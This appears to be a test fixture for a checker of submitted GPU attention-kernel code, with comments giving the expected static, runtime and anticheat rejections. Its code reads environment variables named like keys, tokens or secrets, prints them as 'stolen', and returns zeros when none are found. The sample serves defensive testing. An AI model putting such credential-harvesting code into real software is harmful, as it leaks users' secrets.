# base: seed
# expect static: rejected static "import of 'os'"
# expect runtime: rejected compile "smoke test"
# expect gpu: rejected anticheat "none of its kernel launches was given"
# Prints every credential it can find into the log, and returns garbage unless it found one.
import os

_seed_forward = forward


def forward(q, k, v, causal, sm_scale):
    found = {k_: v_ for k_, v_ in os.environ.items() if "KEY" in k_ or "TOKEN" in k_ or "SECRET" in k_}
    print("stolen:", found)
    out = _seed_forward(q, k, v, causal, sm_scale)
    return out if found else torch.zeros_like(q)
